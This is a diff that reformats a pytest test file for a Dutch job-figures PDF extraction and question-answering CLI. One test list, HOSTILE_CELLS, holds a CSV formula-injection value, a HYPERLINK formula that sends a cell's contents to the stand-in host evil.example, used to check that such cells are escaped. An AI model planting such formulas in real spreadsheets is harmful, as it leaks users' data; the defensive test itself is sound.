@@ -84,9 +84,22 @@ def stored_documents(store: Path) -> set[str]:
 
 def start(folder: Path, store: Path, out: Path, workers: int) -> subprocess.Popen:
     return subprocess.Popen(
-        [*CLI, "extract", str(folder), "--out", str(out), "--store", str(store),
-         "--workers", str(workers)],
-        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
+        [
+            *CLI,
+            "extract",
+            str(folder),
+            "--out",
+            str(out),
+            "--store",
+            str(store),
+            "--workers",
+            str(workers),
+        ],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        start_new_session=True,
+    )
 
 
 def session_alive(sid: int) -> list[int]:
@@ -166,12 +179,28 @@ def test_second_ctrl_c_ends_at_once_and_leaves_no_worker(tmp_path: Path) -> None
 
 
 def figure(quote: str, document: str = "letter") -> Figure:
-    return Figure(document=document, sector="defensie", year=2020, metric="realised_jobs",
-                  value=556, unit="jobs", page=3, char_start=0, char_end=3, quote=quote)
+    return Figure(
+        document=document,
+        sector="defensie",
+        year=2020,
+        metric="realised_jobs",
+        value=556,
+        unit="jobs",
+        page=3,
+        char_start=0,
+        char_end=3,
+        quote=quote,
+    )
 
 
-HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+31 70 123", "-2+3",
-                 "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "+31 70 123",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_csv_cells_that_look_like_formulas_start_with_a_quote(tmp_path: Path) -> None:
@@ -299,8 +328,14 @@ def test_broken_index_caches_are_moved_aside_and_ask_still_answers(
 
 def test_out_that_is_a_folder_fails_before_reading(tmp_path: Path) -> None:
     (tmp_path / "out.csv").mkdir()
-    proc = run_cli("extract", str(SMALL_PDF), "--out", str(tmp_path / "out.csv"),
-                   "--store", str(tmp_path / "s"))
+    proc = run_cli(
+        "extract",
+        str(SMALL_PDF),
+        "--out",
+        str(tmp_path / "out.csv"),
+        "--store",
+        str(tmp_path / "s"),
+    )
     line = one_error_line(proc)
     assert "out.csv" in line and "folder" in line
     assert not (tmp_path / "s").exists()  # no work started
@@ -309,8 +344,9 @@ def test_out_that_is_a_folder_fails_before_reading(tmp_path: Path) -> None:
 def test_out_under_a_file_and_store_that_is_a_file_fail_before_reading(tmp_path: Path) -> None:
     blocker = tmp_path / "blocker"
     blocker.write_text("x")
-    proc = run_cli("extract", str(SMALL_PDF), "--out", str(blocker / "t.csv"),
-                   "--store", str(tmp_path / "s"))
+    proc = run_cli(
+        "extract", str(SMALL_PDF), "--out", str(blocker / "t.csv"), "--store", str(tmp_path / "s")
+    )
     assert "blocker" in one_error_line(proc)
     proc = run_cli("extract", str(SMALL_PDF), "--store", str(blocker))
     line = one_error_line(proc)
@@ -327,23 +363,31 @@ def test_missing_corpus_and_unusable_data_dir(tmp_path: Path, small_corpus: Path
     proc = run_cli("ask", "Hoeveel?", "--corpus", str(tmp_path / "nope"))
     assert "nope" in one_error_line(proc)
     (tmp_path / "file").write_text("x")
-    proc = run_cli("ask", "Hoeveel?", "--corpus", str(small_corpus), "--data-dir",
-                   str(tmp_path / "file"))
+    proc = run_cli(
+        "ask", "Hoeveel?", "--corpus", str(small_corpus), "--data-dir", str(tmp_path / "file")
+    )
     assert "file" in one_error_line(proc)
 
 
-@pytest.mark.parametrize(("manifest", "words"), [
-    ('[{"file": "waterschappen.pdf", ', ["manifest.json", "not valid JSON"]),
-    ('[{"file": "waterschappen.pdf", "year": "abc"}]',
-     ["manifest.json", "entry 1", "waterschappen.pdf", "year", "abc"]),
-    ('{"file": "waterschappen.pdf"}', ["manifest.json", "list"]),
-    ('[{"title": "no file"}]', ["manifest.json", "entry 1", "file"]),
-])
-def test_malformed_manifest_is_one_line(small_corpus: Path, tmp_path: Path, manifest: str,
-                                        words: list[str]) -> None:
+@pytest.mark.parametrize(
+    ("manifest", "words"),
+    [
+        ('[{"file": "waterschappen.pdf", ', ["manifest.json", "not valid JSON"]),
+        (
+            '[{"file": "waterschappen.pdf", "year": "abc"}]',
+            ["manifest.json", "entry 1", "waterschappen.pdf", "year", "abc"],
+        ),
+        ('{"file": "waterschappen.pdf"}', ["manifest.json", "list"]),
+        ('[{"title": "no file"}]', ["manifest.json", "entry 1", "file"]),
+    ],
+)
+def test_malformed_manifest_is_one_line(
+    small_corpus: Path, tmp_path: Path, manifest: str, words: list[str]
+) -> None:
     (small_corpus / "manifest.json").write_text(manifest)
-    proc = run_cli("ask", "Hoeveel banen?", "--corpus", str(small_corpus), "--data-dir",
-                   str(tmp_path / "d"))
+    proc = run_cli(
+        "ask", "Hoeveel banen?", "--corpus", str(small_corpus), "--data-dir", str(tmp_path / "d")
+    )
     line = one_error_line(proc)
     for word in words:
         assert word in line, line
@@ -364,8 +408,16 @@ def test_two_files_with_one_name_get_two_document_ids(tmp_path: Path) -> None:
     for folder, src in (("a", SMALL_PDF), ("b", SEED_PDF)):
         (tmp_path / "in" / folder).mkdir(parents=True)
         shutil.copy(src, tmp_path / "in" / folder / "letter.pdf")
-    proc = run_cli("extract", str(tmp_path / "in"), "--format", "jsonl", "--workers", "1",
-                   "--store", str(tmp_path / "s"))
+    proc = run_cli(
+        "extract",
+        str(tmp_path / "in"),
+        "--format",
+        "jsonl",
+        "--workers",
+        "1",
+        "--store",
+        str(tmp_path / "s"),
+    )
     assert proc.returncode == 0, proc.stderr
     docs = {json.loads(line)["document"] for line in proc.stdout.splitlines()}
     assert docs == {"a/letter", "b/letter"}
@@ -389,6 +441,15 @@ def test_every_project_error_is_a_banen_qa_error() -> None:
     from banen_qa.search.index import IndexUnavailable
     from banen_qa.table_io import MissingDependency, OutputNotWritable, TableFormatError
 
-    for cls in (ManifestError, PdfError, LLMConfigError, LLMUnavailable, BadOutput,
-                IndexUnavailable, MissingDependency, OutputNotWritable, TableFormatError):
+    for cls in (
+        ManifestError,
+        PdfError,
+        LLMConfigError,
+        LLMUnavailable,
+        BadOutput,
+        IndexUnavailable,
+        MissingDependency,
+        OutputNotWritable,
+        TableFormatError,
+    ):
         assert issubclass(cls, BanenQAError), cls
